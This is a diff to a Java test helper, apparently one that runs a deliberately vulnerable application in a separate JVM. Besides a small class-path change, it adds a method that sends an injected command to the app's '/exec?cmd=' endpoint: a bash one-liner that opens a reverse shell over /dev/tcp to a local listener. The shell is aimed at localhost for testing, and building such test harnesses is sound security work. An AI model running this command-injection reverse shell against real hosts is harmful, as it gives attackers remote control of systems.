@@ -75,7 +75,7 @@ final class VulnerableJvm implements AutoCloseable {
     /** Embedded Tomcat's jars, from the test class path (a test dependency): for TomcatApp. */
     static String tomcat() {
         return java.util.Arrays.stream(System.getProperty("java.class.path").split(java.io.File.pathSeparator))
-                .filter(p -> p.contains("tomcat-embed-core") || p.contains("tomcat-annotations-api"))
+                .filter(p -> p.contains("tomcat-embed-core") || p.contains("tomcat-embed-el") || p.contains("tomcat-annotations-api"))
                 .collect(java.util.stream.Collectors.joining(java.io.File.pathSeparator));
     }
 
@@ -124,6 +124,18 @@ final class VulnerableJvm implements AutoCloseable {
     String post(String pathAndQuery, byte[] body) throws Exception {
         return HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + pathAndQuery))
                 .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(), HttpResponse.BodyHandlers.ofString()).body();
+    }
+
+    /** Asks the application (in the background: the request lasts as long as the shell) to start a shell on a connection to `listener`. */
+    void reverseShellTo(java.net.ServerSocket listener) {
+        String shell = "exec bash -c 'exec sh -i <>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + " >&0 2>&1'";
+        Thread.ofVirtual().start(() -> {
+            try {
+                get("/exec?cmd=" + encode(shell));
+            } catch (Exception ignored) {
+                // the request ends when the shell does
+            }
+        });
     }
 
     static String encode(String s) {
